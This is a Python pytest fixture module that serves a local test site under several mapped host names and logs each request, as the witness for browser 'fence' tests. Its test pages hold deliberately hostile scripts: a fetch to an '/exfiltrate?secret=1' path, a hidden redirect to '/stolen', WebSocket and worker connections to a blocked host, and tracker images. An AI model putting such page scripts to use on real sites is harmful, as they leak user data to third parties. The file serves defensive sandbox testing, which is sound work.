"""A local web site for the browser tests: one HTTP server on 127.0.0.1 answering for several
host names (Chromium maps them to it), logging every request it receives with its Host.

The log is the witness of the fence tests ("other.test never saw a request"), so it is tested
here first: a witness that records nothing would make those tests pass for nothing."""

from __future__ import annotations

import threading
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

# A 1x1 PNG, for <img> requests.
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)

PAGES = {
    "/": """<title>Home</title><h1 id=h>Welcome</h1>
        <button id=press style="position:absolute;left:100px;top:200px;width:160px;height:40px"
          onclick="h.textContent='Clicked ' + (++window.n || (window.n = 1))">Press me</button>""",
    "/landing": "<title>Landing</title><p>Landed safely</p>",
    "/form": """<title>Form</title>
        <label>Name <input id=name oninput="show()"></label>
        <label>Fruit <select id=fruit onchange="show()">
          <option value=a>Apple</option><option value=b>Banana</option></select></label>
        <label><input type=checkbox id=agree onchange="show()"> I agree</label>
        <p id=out>nothing yet</p>
        <script>function show(){out.textContent='name=' + document.getElementById('name').value
          + ' fruit=' + fruit.value + ' agree=' + agree.checked}</script>""",
    "/subresources": """<title>Sub</title>
        <img src="http://allowed.test:{port}/pixel.png">
        <img src="http://other.test:{port}/tracker.png">
        <iframe src="http://other.test:{port}/frame"></iframe>
        <p id=out>waiting</p>
        <script>fetch('http://other.test:{port}/exfiltrate?secret=1')
          .then(() => out.textContent = 'fetch went through')
          .catch(() => out.textContent = 'fetch blocked')</script>""",
    "/popup": """<title>Popups</title>
        <button id=bad style="position:absolute;left:10px;top:10px;width:200px;height:40px"
          onclick="window.open('http://other.test:{port}/popup-target')">Bad popup</button>
        <button id=good style="position:absolute;left:10px;top:80px;width:200px;height:40px"
          onclick="window.open('http://allowed.test:{port}/landing')">Good popup</button>""",
    "/hostile": """<title>Hostile</title><p>Nothing to see</p>
        <script>setTimeout(() => { location = 'http://other.test:{port}/stolen?c=1' }, 200)
        </script>""",
    "/websockets": """<title>Sockets</title><p id=out>waiting</p>
        <script>
        const tries = ['ws://allowed.test:{port}/ws-allowed', 'ws://other.test:{port}/ws-stolen'];
        const worker = new Worker(URL.createObjectURL(new Blob(
          ["new WebSocket('ws://other.test:{port}/ws-from-worker')"], {type: 'text/javascript'})));
        let done = 0;
        for (const url of tries) {
          try { const ws = new WebSocket(url); ws.onerror = ws.onclose = () => {
            if (++done === tries.length) out.textContent = 'sockets done'; }; }
          catch (e) { if (++done === tries.length) out.textContent = 'sockets done'; }
        }
        </script>""",
    "/dialog": """<title>Dialog</title><p id=out>before</p>
        <button style="position:absolute;left:10px;top:10px;width:200px;height:40px"
          onclick="out.textContent = confirm('Delete everything?') ? 'deleted' : 'kept'"
          >Go</button>""",
    "/ip-link": """<title>IP link</title>
        <a id=ip href="http://127.0.0.1:{port}/by-address"
          style="position:absolute;left:10px;top:10px;width:200px;height:40px;display:block">go</a>""",
}


@dataclass
class Site:
    port: int
    requests: list[tuple[str, str]] = field(default_factory=list)

    def url(self, host: str, path: str = "/") -> str:
        return f"http://{host}:{self.port}{path}"

    def hosts_seen(self) -> set[str]:
        return {host for host, _ in self.requests}

    def paths_seen(self, host: str) -> list[str]:
        return [path for seen, path in self.requests if seen == host]


def serve() -> tuple[ThreadingHTTPServer, Site]:
    site = Site(port=0)

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            host = (self.headers.get("Host") or "").rsplit(":", 1)[0]
            site.requests.append((host, self.path))
            path = self.path.split("?", 1)[0]
            if path == "/redirect":
                self._send(302, b"", location=site.url("other.test", "/landing"))
            elif path == "/redirect-home":
                self._send(302, b"", location="/landing")
            elif path.endswith(".png"):
                self._send(200, PIXEL, content_type="image/png")
            elif path in PAGES:
                self._send(200, PAGES[path].replace("{port}", str(site.port)).encode())
            else:
                self._send(200, b"<title>Elsewhere</title><p>You should not be here</p>")

        do_POST = do_GET

        def _send(
            self, status: int, body: bytes, *, location: str = "", content_type: str = "text/html"
        ) -> None:
            self.send_response(status)
            if location:
                self.send_header("Location", location)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site.port = int(server.server_address[1])
    return server, site


def running_site() -> Iterator[Site]:
    """Serve until the generator is closed (a fixture body: `yield from running_site()`)."""
    server, site = serve()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield site
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def site() -> Iterator[Site]:
    yield from running_site()


# Every test host name resolves to the local server, so only the fence keeps other.test out.
RESOLVER_RULES = (
    "--host-resolver-rules=MAP allowed.test 127.0.0.1, MAP other.test 127.0.0.1, "
    "MAP *.allowed.test 127.0.0.1"
)


def test_the_witness_logs_each_host_and_the_redirect_target(site: Site) -> None:
    for host in ("allowed.test", "other.test"):
        request = urllib.request.Request(f"http://127.0.0.1:{site.port}/landing")
        request.add_header("Host", f"{host}:{site.port}")
        with urllib.request.urlopen(request, timeout=10) as response:
            assert b"Landed safely" in response.read()
    assert site.requests == [("allowed.test", "/landing"), ("other.test", "/landing")]
